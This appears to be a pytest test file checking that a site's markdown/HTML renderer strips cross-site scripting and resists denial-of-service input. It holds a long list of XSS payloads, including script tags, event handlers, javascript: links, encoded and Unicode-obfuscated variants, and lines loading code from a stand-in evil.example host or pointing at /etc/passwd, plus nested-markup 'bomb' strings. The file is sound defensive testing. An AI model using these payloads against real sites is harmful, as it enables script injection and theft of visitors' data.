"""T18-T21: what people send who do not mean well. Cases are the classic shapes, written down here."""

import re

import pytest

from tests.text.elements import STAFF_ALLOWED, VISITOR_ALLOWED, Elements, attributes_allowed
from tips.text import sanitise
from tips.text.clean import many_lines
from tips.text.render import ALLOWANCE, LONGEST, SWELLING, staff, visitor

SHAPES = r"""
<script>alert(1)</script>
<script src=//evil.example/x.js></script>
<SCRIPT>alert(1)</SCRIPT >
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<!--><script>alert(1)</script>-->
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"//
<img/src=x/onerror=alert(1)>
<IMG ""'"><script>alert(1)</script>">
<img src="javascript:alert(1)">
<img src=`x` onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=0>
<img srcset="x 1x, javascript:alert(1) 2x">
<image href=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<body onload=alert(1)>
<body background="javascript:alert(1)">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<frameset onload=alert(1)>
<object data="javascript:alert(1)">
<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<applet code=x>
<base href="//evil.example/">
<link rel=stylesheet href="//evil.example/x.css">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>@import '//evil.example/x.css';</style>
<style>*{background:url("javascript:alert(1)")}</style>
<div style="width:expression(alert(1))">
<p style="position:fixed;inset:0;background:#fff">
<input autofocus onfocus=alert(1)>
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<button formaction="javascript:alert(1)">x</button>
<form action="javascript:alert(1)"><input type=submit></form>
<form id=document><input name=cookie></form>
<a id=defaultView><a id=defaultView name=x href="//evil.example">
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<keygen autofocus onfocus=alert(1)>
<table background="javascript:alert(1)">
<template><script>alert(1)</script></template>
<custom-element onpointerenter=alert(1) tabindex=1>
<p id="p-1" name="p-1" class="term-note" data-x onclick=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="https://good.example" onmouseover=alert(1)>x</a>
<a href=x target=_blank ping="//evil.example">x</a>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java%0ascript:alert(1))
[x](&#106;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](<javascript:alert(1)>)
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:msgbox(1))
[x](file:///etc/passwd)
[x](//evil.example)
[x](\\evil.example)
[x](https://good.example"onmouseover="alert(1))
[x]: javascript:alert(1)
[a](https://good.example/ "t\" onmouseover=alert(1) x=\"")
![x](javascript:alert(1))
![x" onerror="alert(1)](x)
![x](https://evil.example/pixel.gif)
<javascript:alert(1)>
<https://a.example/"onmouseover=alert(1)>
https://a.example/"onmouseover="alert(1)
https://a.example/'onmouseover='alert(1)
https://a.example/<script>alert(1)</script>
https://a.example/&quot;onmouseover=alert(1)
https://nhs.uk@evil.example/
https://evil.example\@nhs.uk/
*<img src=x onerror=alert(1)>*
**"><svg onload=alert(1)>**
- <script>alert(1)</script>
1. <img src=x onerror=alert(1)>
`<script>alert(1)</script>`
## <script>alert(1)</script> {#x" onclick="alert(1)}
## x {#location}
[^"><script>alert(1)</script>]: x
{{constructor.constructor('alert(1)')()}}
{% include "/etc/passwd" %}
${alert(1)} #{alert(1)} <%= alert(1) %>
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\u003cscript\u003ealert(1)\u003c/script\u003e
&lt;script&gt;alert(1)&lt;/script&gt;
%3Cscript%3Ealert(1)%3C/script%3E
""".strip().split("\n")
WITH_ODD_CHARACTERS = [
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "[x](\u2028javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "https://nhs.uk\u2028@evil.example/",
    "https://nhs.uk\u202e/elpmaxe.live//:sptth",
    "\u202e<script>alert(1)</script>",
    "<\ufeffscript>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\ud83d<script>\ude00",
    "a\x1b[31mred\x1b[0m",
    "Z\u0351\u036b\u0343algo" * 50,
]
HOSTILE = SHAPES + WITH_ODD_CHARACTERS
HARMLESS_LINK = re.compile(r"""https://(a|good|evil)\.example(/[^\s"<>\\@]*)?|https://nhs\.uk(/[\w./:]*)?""")


@pytest.mark.parametrize("typed", HOSTILE)
def test_visitors_can_only_write_words_t18(typed):
    html = visitor(typed).html
    page = Elements(html)
    assert attributes_allowed(html, VISITOR_ALLOWED)
    assert page.open == []
    assert all(HARMLESS_LINK.fullmatch(link) for link in page.links())
    assert sanitise.visitor_html(html) == html


@pytest.mark.parametrize("typed", [shape for shape in HOSTILE if shape[0] not in "*-1"])
def test_what_visitors_typed_is_shown_as_they_typed_it_t18(typed):
    assert Elements(visitor(typed).html).text == " ".join(many_lines(typed).split())


@pytest.mark.parametrize("typed", HOSTILE)
def test_not_even_the_owner_can_write_script_t18(typed):
    html = staff(f"Words.\n\n{typed}").html
    page = Elements(html)
    assert attributes_allowed(html, STAFF_ALLOWED)
    assert page.open == []
    assert not [link for link in page.links() if not link.startswith(("https://good.example", "https://a.example/"))]
    assert not [a for tag, a in page.tags if tag == "img" and "src" in a]
    assert sanitise.staff_html(html) == html


@pytest.mark.parametrize("typed", SHAPES)
def test_the_fence_stands_without_the_renderer_t19(typed):
    for clean, allowed in ((sanitise.visitor_html, VISITOR_ALLOWED), (sanitise.staff_html, STAFF_ALLOWED)):
        html = clean(typed)
        assert attributes_allowed(html, allowed)
        assert clean(html) == html


def test_ids_and_names_cannot_stand_in_for_parts_of_the_page_t21():
    page = Elements(visitor('<form id=document><input name=cookie>\n\n## x {#location}\n\n<a name="p-1">').html)
    assert page.ids() == ["p-1", "p-2", "p-3"]
    assert not [attributes for _, attributes in page.tags if "name" in attributes]


BOMBS = {
    "nested lists by indent": "\n".join(f"{' ' * (2 * depth)}- a" for depth in range(138)),
    "nested lists by marks": "- " * 10_000,
    "nested numbers": "1. " * 6_666,
    "nested quotations": "> " * 10_000,
    "html lists": "<ul><li>" * 2_500,
    "brackets": "[" * 20_000,
    "pictures": "![" * 10_000,
    "links": "[a](" * 5_000,
    "inline notes": "^[" * 10_000,
    "less than": "<" * 20_000,
    "ampersands": "&" * 20_000,
    "no-break spaces": f"a{chr(160) * 19_998}a",
    "stars": "*" * 20_000,
    "starred letters": "*a" * 10_000,
    "open stress": "**a " * 5_000,
    "mixed stress": "*a **b " * 2_857,
    "deep stress": "*" * 9_999 + "a" + "*" * 9_999,
    "underscores": "_a " * 6_666,
    "backticks": "`a``" * 5_000,
    "comments": "<!--" * 5_000,
    "short lines": "a\n" * 10_000,
    "short paragraphs": "a\n\n" * 6_666,
    "short lists": "a\n- a\n" * 3_333,
    "counting down": "9. a\n8. a\n" * 2_000,
    "headings": "# a\n" * 5_000,
    "short addresses": "http://a.b " * 1_818,
    "bracketed address": "http://a.example/" + ")" * 19_900,
    "addresses in addresses": "http://" * 2_857,
    "spaces": "a" + " " * 19_998 + "a",
    "gaps": "a" + "\n \n" * 6_600 + "a",
}


@pytest.mark.timeout(20)
@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS.keys())
def test_bombs_end_soon_and_stay_small_t20(bomb):
    assert len(bomb) <= LONGEST
    shown = visitor(bomb).html
    assert len(shown) <= SWELLING * len(bomb) + ALLOWANCE
    assert attributes_allowed(shown, VISITOR_ALLOWED)
    assert len(staff(bomb).html) <= SWELLING * len(bomb) + ALLOWANCE
